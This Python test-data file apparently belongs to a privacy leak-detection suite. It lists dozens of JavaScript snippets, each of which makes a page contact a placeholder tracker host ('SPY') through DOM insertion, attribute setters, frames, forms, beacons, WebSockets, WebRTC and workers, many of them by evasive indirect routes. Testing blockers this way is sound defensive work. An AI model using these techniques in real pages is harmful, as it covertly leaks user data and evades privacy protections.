"""What script fetches: elements made and changed in every way, frames sent on, every interface that opens a connection."""

# ruff: noqa: E501 (each row of the tables is one script)

from __future__ import annotations

from leaks.case import rows

_FRAME = "const f = document.createElement('iframe');"
_IN = f"{_FRAME} document.body.append(f);"
_NAMED = f"{_FRAME} f.name = 'x'; document.body.append(f);"
_END = "</scr' + 'ipt>"
_IMAGE = "<img src=SPY>"
_MADE = "const i = document.createElement('img');"
_SVG = "const s = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); document.body.append(s); s.append(i);"
_SVG_IMAGE = "const i = document.createElementNS('http://www.w3.org/2000/svg', 'image'); i.setAttribute('width', 9); i.setAttribute('height', 9);"
_LINK = "const l = document.createElement('link');"
_CLICK = "a.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }))"

WAYS_IN = {
    "writeln": f"{_IN} window[0].document.writeln('{_IMAGE}')",
    "innerHTML of a shadow tree": f"const d = document.createElement('div'); document.body.append(d); d.attachShadow({{ mode: 'open' }}).innerHTML = '{_IMAGE}'",
    "innerHTML of SVG": "document.body.innerHTML = '<svg></svg>'; document.body.firstChild.innerHTML = '<image href=SPY width=9 height=9 />'",
    "innerHTML of a part outside the page": f"document.createElement('div').innerHTML = '{_IMAGE}'",
    "innerHTML of a picture": "document.body.innerHTML = '<picture><source srcset=SPY><img></picture>'",
    "setHTML": f"document.body.setHTML('{_IMAGE}', {{ sanitizer: {{}} }})",
    "setHTMLUnsafe with a shadow tree": f"document.body.setHTMLUnsafe('<div><template shadowrootmode=open>{_IMAGE}</template></div>')",
    "parseHTMLUnsafe": f"document.body.append(document.adoptNode(Document.parseHTMLUnsafe('{_IMAGE}').body.firstChild))",
    "DOMParser of XML": "document.body.append(document.adoptNode(new DOMParser().parseFromString('<img xmlns=\"http://www.w3.org/1999/xhtml\" src=\"SPY\"/>', 'text/xml').documentElement))",
    "DOMParser of SVG": 'document.body.append(new DOMParser().parseFromString(\'<svg xmlns="http://www.w3.org/2000/svg"><image href="SPY" width="9" height="9"/></svg>\', \'image/svg+xml\').documentElement)',
    "document made by script": f"const d = document.implementation.createHTMLDocument(); d.body.innerHTML = '{_IMAGE}'; document.body.append(d.body.firstChild)",
    "importNode": f"const t = document.createElement('template'); t.innerHTML = '{_IMAGE}'; document.body.append(document.importNode(t.content, true))",
    "insertBefore": f"{_MADE} i.src = 'SPY'; document.body.insertBefore(i, null)",
    "replaceChildren": "const s = document.createElement('script'); s.src = 'SPY.js'; document.body.replaceChildren(s)",
    "replaceWith": "const s = document.createElement('script'); s.src = 'SPY.js'; document.body.firstChild.replaceWith(s)",
    "before": "const s = document.createElement('script'); s.src = 'SPY.js'; document.body.firstChild.before(s)",
    "insertAdjacentElement": "const s = document.createElement('script'); s.src = 'SPY.js'; document.body.insertAdjacentElement('afterbegin', s)",
    "moveBefore": f"{_FRAME} f.src = 'SPY'; document.body.append(f); document.body.moveBefore(f, document.body.firstChild)",
    "Range.insertNode": "const s = document.createElement('script'); s.src = 'SPY.js'; const r = new Range(); r.selectNode(document.body.firstChild); r.insertNode(s)",
    "Range.surroundContents": "const s = document.createElement('iframe'); s.src = 'SPY'; const r = new Range(); r.selectNodeContents(document.body.firstChild); r.surroundContents(s)",
    "execCommand insertHTML": f"document.body.contentEditable = true; document.body.focus(); getSelection().selectAllChildren(document.body); document.execCommand('insertHTML', false, '{_IMAGE}')",
    "execCommand insertImage": "document.body.contentEditable = true; document.body.focus(); getSelection().selectAllChildren(document.body); document.execCommand('insertImage', false, 'SPY')",
    "customized element": "customElements.define('x-z', class extends HTMLElement { constructor() { super(); this.attachShadow({ mode: 'open' }).innerHTML = '<img src=SPY>' } }); document.body.innerHTML = '<x-z></x-z>'",
    "slot of a shadow tree": f"document.body.innerHTML = '<div>{_IMAGE}</div>'; document.body.firstChild.attachShadow({{ mode: 'open' }}).innerHTML = '<slot></slot>'",
    "observer of mutations": "new MutationObserver(() => fetch('SPY')).observe(document.body, { childList: true }); document.body.append('x')",
    "javascript: link": "document.body.innerHTML = '<a href=\"javascript:void(fetch(`SPY`))\">x</a>'; document.querySelector('a').click()",
    "handler set as an attribute": f"{_MADE} i.setAttribute('onerror', 'fetch(\"SPY\")'); i.src = 'data:'",
    "Function": "new Function('fetch(\"SPY\")')()",
    "generated function": "(async () => {}).constructor('await fetch(\"SPY\")')()",
    "script text": "const s = document.createElement('script'); s.text = 'fetch(\"SPY\")'; document.head.append(s)",
    "script of a blob": "const s = document.createElement('script'); s.src = URL.createObjectURL(new Blob(['fetch(\"SPY\")'])); document.head.append(s)",
    "script of data:": "const s = document.createElement('script'); s.src = 'data:text/javascript,fetch(\"SPY\")'; document.head.append(s)",
    "import map made by script": "const s = document.createElement('script'); s.type = 'importmap'; s.textContent = '{\"imports\":{\"late\":\"SPY.js\"}}'; document.head.append(s); import('late')",
    "import() of data: that imports": "import('data:text/javascript,import \"SPY.js\"')",
    "import() of a blob that imports": "import(URL.createObjectURL(new Blob(['import \"SPY.js\"'], { type: 'text/javascript' })))",
    "import() of JSON": "import('SPY.json', { with: { type: 'json' } })",
    "microtask": "queueMicrotask(() => fetch('SPY'))",
    "idle callback": "requestIdleCallback(() => fetch('SPY'))",
    "scheduled task": "scheduler.postTask(() => fetch('SPY'))",
    "message to itself": "onmessage = () => fetch('SPY'); postMessage('x', '*')",
}

WAYS_TO_SET = {
    "img.setAttribute": f"{_MADE} i.setAttribute('src', 'SPY')",
    "img.setAttribute in capitals": f"{_MADE} i.setAttribute('SRC', 'SPY')",
    "img.setAttributeNS": f"{_MADE} i.setAttributeNS(null, 'src', 'SPY')",
    "img.setAttributeNode": f"{_MADE} const a = document.createAttribute('src'); a.value = 'SPY'; i.setAttributeNode(a)",
    "img.attributes": f"{_MADE} i.setAttribute('src', 'data:'); i.attributes.src.value = 'SPY'",
    "img.attributes by nodeValue": f"{_MADE} i.setAttribute('src', 'data:'); i.attributes.src.nodeValue = 'SPY'",
    "img by Object.assign": f"{_MADE} Object.assign(i, {{ src: 'SPY' }})",
    "img by Reflect.set": f"{_MADE} Reflect.set(i, 'src', 'SPY')",
    "img by the prototype's setter": f"{_MADE} Object.getOwnPropertyDescriptor(HTMLImageElement.prototype, 'src').set.call(i, 'SPY')",
    "img by a frame's setter": f"{_MADE} {_IN} Object.getOwnPropertyDescriptor(window[0].HTMLImageElement.prototype, 'src').set.call(i, 'SPY')",
    "img.srcset with sizes": f"{_MADE} i.sizes = '9px'; i.srcset = 'SPY 9w'",
    "img made in a frame": f"{_IN} new window[0].Image().src = 'SPY'",
    "img cloned": f"{_MADE} i.setAttribute('src', 'SPY'); i.cloneNode()",
    "source.srcset": "document.body.innerHTML = '<picture><source><img></picture>'; document.querySelector('source').srcset = 'SPY'",
    "video.src": "document.createElement('video').src = 'SPY'",
    "video.poster by an attribute": "const v = document.createElement('video'); document.body.append(v); v.setAttribute('poster', 'SPY')",
    "source of a video by script": "const v = document.createElement('video'), s = document.createElement('source'); s.src = 'SPY'; v.append(s); document.body.append(v)",
    "audio.src": "const a = new Audio(); a.preload = 'auto'; a.src = 'SPY'",
    "audio that is played": "const a = new Audio(); a.preload = 'none'; a.src = 'SPY'; a.play().catch(() => 0)",
    "track.src": "document.body.innerHTML = '<video crossorigin><track default></video>'; const t = document.querySelector('track'); t.track.mode = 'hidden'; t.src = 'SPY'",
    "input.src": "const i = document.createElement('input'); i.type = 'image'; document.body.append(i); i.src = 'SPY'",
    "embed.src": "const e = document.createElement('embed'); e.src = 'SPY'; document.body.append(e)",
    "embed.src, changed": "const e = document.createElement('embed'); e.type = 'text/html'; e.src = 'about:blank'; document.body.append(e); e.src = 'SPY'",
    "object.data": "const o = document.createElement('object'); o.data = 'SPY'; document.body.append(o)",
    "object.data, changed": "const o = document.createElement('object'); o.data = 'about:blank'; document.body.append(o); o.data = 'SPY'",
    "background of the body by script": "document.body.background = 'SPY'",
    "background of a table by script": "const t = document.createElement('table'); document.body.append(t); t.setAttribute('background', 'SPY')",
    "base by script": f"const b = document.createElement('base'); b.href = 'SPY/'; document.head.append(b); {_MADE} i.src = 'x'",
    "ping by script": "const a = document.createElement('a'); a.href = '#x'; a.ping = 'SPY'; document.body.append(a); a.click()",
    "SVG image by an attribute": f"{_SVG_IMAGE} {_SVG} i.setAttribute('href', 'SPY')",
    "SVG image by xlink": f"{_SVG_IMAGE} {_SVG} i.setAttributeNS('http://www.w3.org/1999/xlink', 'href', 'SPY')",
    "SVG image by its base value": f"{_SVG_IMAGE} {_SVG} i.href.baseVal = 'SPY'",
    "SVG script by its base value": "const i = document.createElementNS('http://www.w3.org/2000/svg', 'script'); i.href.baseVal = 'SPY.js'; document.body.append(i)",
    "feImage by script": "document.body.innerHTML = '<svg><filter id=x><feImage /></filter><rect width=9 height=9 filter=url(#x) /></svg>'; document.querySelector('feImage').href.baseVal = 'SPY'",
    "icon turned into a style sheet": f"{_LINK} l.rel = 'x'; l.href = 'SPY.css'; document.head.append(l); l.rel = 'stylesheet'",
    "preload by imageSrcset": f"{_LINK} l.rel = 'preload'; l.as = 'image'; l.imageSrcset = 'SPY 1x'; document.head.append(l)",
    "modulepreload by script": f"{_LINK} l.rel = 'modulepreload'; l.href = 'SPY.js'; document.head.append(l)",
    "script whose type is given back": "document.body.innerHTML = '<script type=x src=SPY.js>"
    + _END
    + "'; const s = document.body.querySelector('script').cloneNode(); s.type = ''; const t = document.createElement('script'); t.src = s.src; document.body.append(t)",
}

NAVIGATIONS = {
    "location.assign of a frame": f"{_IN} window[0].location.assign('SPY')",
    "location.replace of a frame": f"{_IN} window[0].location.replace('SPY')",
    "location.href of a frame": f"{_IN} window[0].location.href = 'SPY'",
    "location of a frame's document": f"{_IN} f.contentDocument.location = 'SPY'",
    "host of a frame's location": f"{_FRAME} f.src = '/x'; document.body.append(f); await loaded(f); window[0].location.host = 'SPYHOST'",
    "navigation.navigate of a frame": f"{_FRAME} f.src = '/x'; document.body.append(f); await loaded(f); window[0].navigation.navigate('SPY')",
    "frame that goes on by itself": f"{_FRAME} f.srcdoc = '<script>location = \"SPY\"{_END}'; document.body.append(f)",
    "frame of a blob that goes on": f"{_FRAME} f.src = URL.createObjectURL(new Blob(['<script>location.replace(\"SPY\"){_END}'], {{ type: 'text/html' }})); document.body.append(f)",
    "frame of data: that goes on": f"{_FRAME} f.src = 'data:text/html,<script>location.href = \"SPY\"{_END}'; document.body.append(f)",
    "frame of a blob that refreshes": f"{_FRAME} f.src = URL.createObjectURL(new Blob(['<meta http-equiv=refresh content=\"0;url=SPY\">'], {{ type: 'text/html' }})); document.body.append(f)",
    "meta refresh into a frame": f"{_IN} const m = window[0].document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=SPY'; window[0].document.head.append(m)",
    "iframe.setAttribute": f"{_FRAME} f.setAttribute('src', 'SPY'); document.body.append(f)",
    "iframe.src, changed": f"{_IN} f.src = 'SPY'",
    "iframe.srcdoc": f"{_FRAME} f.srcdoc = '{_IMAGE}'; document.body.append(f)",
    "iframe.srcdoc, taken away": f"{_FRAME} f.srcdoc = 'x'; f.src = 'SPY'; document.body.append(f); await loaded(f); f.removeAttribute('srcdoc')",
    "iframe sent to javascript:": f"{_IN} f.src = 'javascript:location = \"SPY\"'",
    "frame by its name": f"{_NAMED} window.x.location = 'SPY'",
    "frame through top": f"{_IN} window.frames[0].self.location = 'SPY'",
    "link made and clicked into a frame": f"{_NAMED} const a = document.createElement('a'); a.href = 'SPY'; a.target = 'x'; document.body.append(a); a.click()",
    "link outside the page, clicked": f"{_NAMED} const a = document.createElement('a'); a.href = 'SPY'; a.target = 'x'; {_CLICK}",
    "link inside a frame, clicked": f"{_IN} const a = window[0].document.createElement('a'); a.href = 'SPY'; window[0].document.body.append(a); a.click()",
    "form that posts a request": f"{_NAMED} const o = document.createElement('form'); o.method = 'post'; o.action = 'SPY'; o.target = 'x'; document.body.append(o); o.requestSubmit()",
    "form inside a frame": f"{_IN} const o = window[0].document.createElement('form'); o.action = 'SPY'; window[0].document.body.append(o); o.submit()",
    "form whose submitter names another address": f"{_NAMED} const o = document.createElement('form'), b = document.createElement('button'); o.target = 'x'; b.formAction = 'SPY'; o.append(b); document.body.append(o); o.requestSubmit(b)",
    "open from a frame": f"{_FRAME} f.src = '/x'; document.body.append(f); await loaded(f); window[0].open('SPY', '_self')",
    "frame of a frameset by script": "const f = document.createElement('frame'); f.src = 'SPY'; document.body.append(f)",
    "picture in a popup": f"open('').document.write('{_IMAGE}')",
    "script in a popup": "open('').document.write('<script src=SPY.js>" + _END + "')",
    "frame in a popup": "open('').document.body.innerHTML = '<iframe src=SPY></iframe>'",
    "beacon of a popup": "open('').navigator.sendBeacon('SPY')",
    "popup of a blob with a picture": f"open(URL.createObjectURL(new Blob(['{_IMAGE}'], {{ type: 'text/html' }})))",
}

CONNECTIONS = {
    "fetchLater": "fetchLater('SPY', { activateAfter: 0 })",
    "fetchLater of a frame that goes": f"{_IN} window[0].fetchLater('SPY'); f.remove()",
    "fetch of low priority": "fetch('SPY', { priority: 'low', credentials: 'include' })",
    "fetch of another method": "fetch('SPY', { method: 'PUT', body: 'x' })",
    "fetch of a text/plain POST": "fetch('SPY', { method: 'POST', mode: 'no-cors', body: 'x' })",
    "fetch by Reflect.apply": "Reflect.apply(fetch, window, ['SPY'])",
    "fetch of an address as an object": "fetch(new URL('SPY'))",
    "XMLHttpRequest that posts": "const x = new XMLHttpRequest(); x.open('POST', 'SPY'); x.send('x')",
    "XMLHttpRequest of a document": "const x = new XMLHttpRequest(); x.responseType = 'document'; x.open('GET', 'SPY'); x.send()",
    "XMLHttpRequest of a frame": f"{_IN} const x = new window[0].XMLHttpRequest(); x.open('GET', 'SPY'); x.send()",
    "WebSocket with a protocol": "new WebSocket('ws://SPYHOST/', 'x')",
    "WebSocket of an http: address": "new WebSocket('SPY')",
    "WebSocket that is encrypted": "new WebSocket('wss://SPYHOST/')",
    "WebSocket of a frame": f"{_IN} new window[0].WebSocket('ws://SPYHOST/')",
    "WebSocketStream": "new WebSocketStream('ws://SPYHOST/')",
    "EventSource with credentials": "new EventSource('SPY', { withCredentials: true })",
    "EventSource of a frame": f"{_IN} new window[0].EventSource('SPY')",
    "sendBeacon of a form": "navigator.sendBeacon('SPY', new FormData())",
    "sendBeacon of a frame": f"{_IN} window[0].navigator.sendBeacon('SPY')",
    "beacon when the page goes": f"{_FRAME} f.srcdoc = '<script>onpagehide = () => navigator.sendBeacon(\"SPY\"){_END}'; document.body.append(f); await loaded(f); f.remove()",
    "cache.addAll": "(await caches.open('theme')).addAll(['SPY'])",
    "cache.add of a Request": "(await caches.open('theme')).add(new Request('SPY', { mode: 'no-cors' }))",
    "FedCM": "navigator.credentials.get({ identity: { providers: [{ configURL: 'https://SPYHOST/x.json', clientId: 'x' }] } }).catch(() => 0)",
    "audio worklet of an offline context": "await new OfflineAudioContext(1, 9, 8000).audioWorklet.addModule('SPY.js')",
    "audio worklet that imports": "await new AudioContext().audioWorklet.addModule('data:text/javascript,import \"SPY.js\"')",
    "paint worklet that imports": "await CSS.paintWorklet.addModule(URL.createObjectURL(new Blob(['import \"SPY.js\"'], { type: 'text/javascript' })))",
    "RTCPeerConnection of the old name": "const c = new webkitRTCPeerConnection({ iceServers: [{ urls: 'stun:SPYHOST' }] }); c.createDataChannel('x'); c.setLocalDescription(await c.createOffer())",
    "RTCPeerConnection of a class": "const c = new (class extends RTCPeerConnection {})({ iceServers: [{ urls: 'stun:SPYHOST' }] }); c.createDataChannel('x'); c.setLocalDescription(await c.createOffer())",
    "RTCPeerConnection by Reflect.construct": "const c = Reflect.construct(RTCPeerConnection, [{ iceServers: [{ urls: 'stun:SPYHOST' }] }]); c.createDataChannel('x'); c.setLocalDescription(await c.createOffer())",
    "RTCPeerConnection of its own constructor": "const c = new (new RTCPeerConnection().constructor)({ iceServers: [{ urls: 'stun:SPYHOST' }] }); c.createDataChannel('x'); c.setLocalDescription(await c.createOffer())",
    "RTCPeerConnection told in a description": "const a = new RTCPeerConnection(), b = new RTCPeerConnection(); a.createDataChannel('x'); const o = await a.createOffer(); await a.setLocalDescription(o); await b.setRemoteDescription(o); const w = await b.createAnswer(); await b.setLocalDescription(w); await a.setRemoteDescription({ type: 'answer', sdp: w.sdp.replace(/a=ice-ufrag/, 'a=candidate:1 1 udp 2113937151 127.0.0.1 SPYPORT typ host\\r\\na=ice-ufrag') })",
}

_BLOB = "new Worker(URL.createObjectURL(new Blob([`CODE`])))"
_CODES = {
    "XMLHttpRequest": "const x = new XMLHttpRequest(); x.open('GET', 'SPY'); x.send()",
    "XMLHttpRequest that waits": "const x = new XMLHttpRequest(); x.open('GET', 'SPY', false); x.send()",
    "EventSource": "new EventSource('SPY')",
    "import()": "import('SPY.js')",
    "cache.add": "caches.open('theme').then(c => c.add('SPY'))",
}
IN_A_WORKER = {
    **{f"{name} in a worker of a blob": _BLOB.replace("CODE", code) for name, code in _CODES.items()},
    "fetch in a shared worker of a blob": "new SharedWorker(URL.createObjectURL(new Blob(['fetch(\"SPY\")'])))",
    "fetch in a module shared worker of a blob": "new SharedWorker(URL.createObjectURL(new Blob(['fetch(\"SPY\")'], { type: 'text/javascript' })), { type: 'module' })",
    "fetch in a worker of a frame": f"{_IN} new window[0].Worker(window[0].URL.createObjectURL(new Blob(['fetch(\"SPY\")'])))",
    "fetch in a worker of a popup": "const w = open(''); new w.Worker(w.URL.createObjectURL(new Blob(['fetch(\"SPY\")'])))",
    "import in a module worker of a blob": "new Worker(URL.createObjectURL(new Blob(['import \"SPY.js\"'], { type: 'text/javascript' })), { type: 'module' })",
    "import in a module worker of data:": "new Worker('data:text/javascript,import \"SPY.js\"', { type: 'module' })",
    "importScripts in a worker of data:": "new Worker('data:text/javascript,importScripts(\"SPY.js\")')",
    "importScripts in a shared worker of a blob": "new SharedWorker(URL.createObjectURL(new Blob(['importScripts(\"SPY.js\")'])))",
    "eval in a worker of a blob": "new Worker(URL.createObjectURL(new Blob(['eval(`fetch(\"SPY\")`)'])))",
    "worker in a worker that imports": "new Worker(URL.createObjectURL(new Blob([`new Worker('data:text/javascript,importScripts(\"SPY.js\")')`])))",
    "worker told by a message": "const w = new Worker(URL.createObjectURL(new Blob(['onmessage = e => fetch(e.data)']))); w.postMessage('SPY')",
}

INSERTIONS = [
    *rows("contact", "script", {f"by script: {name}": text for name, text in WAYS_IN.items()}, body="<p>x</p>"),
    *rows("contact", "script", {f"set: {name}": text for name, text in WAYS_TO_SET.items()}, body="<p>x</p>"),
    *rows("contact", "script", {f"navigation: {name}": text for name, text in NAVIGATIONS.items()}, body="<p>x</p>"),
    *rows("contact", "script", {**CONNECTIONS, **IN_A_WORKER}, body="<p>x</p>"),
]
"""Script that contacts the tracker."""
